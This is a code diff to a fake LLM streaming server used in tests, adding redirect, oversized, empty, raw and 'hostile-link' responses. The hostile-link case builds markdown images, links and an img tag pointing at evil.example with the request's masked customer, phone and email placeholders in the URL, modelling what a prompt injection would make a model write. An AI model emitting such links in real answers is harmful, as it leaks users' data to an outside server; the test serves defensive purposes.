@@ -22,7 +22,20 @@ export type Behaviour =
   /** Streams the first `after` chunks, then sends nothing more (keeps the socket open). */
   | { kind: 'stall'; chunks: string[]; after: number }
   /** A 200 that is not an event stream (a web page at the wrong URL). */
-  | { kind: 'html' };
+  | { kind: 'html' }
+  /** A redirect (301, 302, 307, 308) to `location`. */
+  | { kind: 'redirect'; status: number; location: string }
+  /** `count` chunks of `chunk`, as fast as the client reads them (stops when the client goes away). */
+  | { kind: 'huge'; chunk: string; count: number }
+  /** A stream with no text: a finish reason alone (content_filter, tool_calls), or chunks with no choices at all. */
+  | { kind: 'empty'; finishReason?: string; noChoices?: boolean }
+  /**
+   * A report whose image and link point at another server with the masks the request carried
+   * (〔客户A〕, 〔电话1〕…) in the URL: what a prompt injection would make a model write.
+   */
+  | { kind: 'hostile-link' }
+  /** These `data:` payloads verbatim (`null`, malformed chunks…), then [DONE]. */
+  | { kind: 'raw'; events: string[] };
 
 export interface RecordedRequest {
   method: string;
@@ -177,6 +190,32 @@ export class FakeLlmServer {
       case 'stall':
         this.sse(res, record, b.chunks.slice(0, b.after), { end: 'stall', delayMs: 0 });
         return;
+      case 'redirect':
+        res.writeHead(b.status, { location: b.location, 'content-type': 'text/plain' });
+        res.end(`Moved to ${b.location}`, () => (record.respondedAt = Date.now()));
+        return;
+      case 'huge':
+        this.sse(res, record, { length: b.count, at: () => b.chunk }, { finishReason: 'stop', delayMs: 0 });
+        return;
+      case 'empty':
+        if (b.noChoices) {
+          res.writeHead(200, { 'content-type': 'text/event-stream' });
+          res.end(`data: ${JSON.stringify({ id: 'chatcmpl-test', object: 'chat.completion.chunk', created: 0, model: 'test', choices: [] })}\n\ndata: [DONE]\n\n`, () => (record.respondedAt = Date.now()));
+          return;
+        }
+        this.sse(res, record, [], { finishReason: b.finishReason ?? 'content_filter', delayMs: 0 });
+        return;
+      case 'hostile-link': {
+        const masks = [...new Set(record.body.match(/〔(?:客户|人名|电话|邮箱|证件)[A-Z0-9]{1,3}〕/g) ?? [])];
+        const query = masks.map((m, i) => `m${i}=${m}`).join('&');
+        const text = `## 业务需求分析\n客户为${masks[0] ?? '〔客户A〕'}。\n\n![logo](http://evil.example/p.png?${query})\n\n[详情](http://evil.example/d?${query}) · [官网](https://example.com/about)\n\n<img src="http://evil.example/i?${query}">\n`;
+        this.sse(res, record, [text.slice(0, 40), text.slice(40)], { finishReason: 'stop', delayMs: 0 });
+        return;
+      }
+      case 'raw':
+        res.writeHead(200, { 'content-type': 'text/event-stream' });
+        res.end(b.events.map((e) => `data: ${e}\n\n`).join('') + 'data: [DONE]\n\n', () => (record.respondedAt = Date.now()));
+        return;
     }
   }
 
@@ -199,7 +238,8 @@ export class FakeLlmServer {
     res.end(JSON.stringify(payload), () => (record.respondedAt = Date.now()));
   }
 
-  private sse(res: http.ServerResponse, record: RecordedRequest, chunks: string[], opts: { finishReason?: string; delayMs: number; end?: 'destroy' | 'stall' }): void {
+  private sse(res: http.ServerResponse, record: RecordedRequest, list: readonly string[] | { length: number; at(i: number): string }, opts: { finishReason?: string; delayMs: number; end?: 'destroy' | 'stall' }): void {
+    const chunks = Array.isArray(list) ? { length: list.length, at: (i: number) => list[i]! } : (list as { length: number; at(i: number): string });
     const model = record.json?.model ?? 'test';
     const created = Math.floor(Date.now() / 1000);
     const event = (delta: Record<string, unknown>, finish: string | null) =>
@@ -210,8 +250,10 @@ export class FakeLlmServer {
     const next = () => {
       if (res.destroyed) return;
       if (i < chunks.length) {
-        res.write(event({ content: chunks[i++] }, null), () => (record.chunksSent = i));
+        const ok = res.write(event({ content: chunks.at(i++) }, null), () => (record.chunksSent = i));
         if (opts.delayMs > 0) this.later(opts.delayMs, next);
+        // Wait for the client to read (a huge answer must not pile up in this process).
+        else if (!ok) res.once('drain', next);
         else setImmediate(next);
         return;
       }
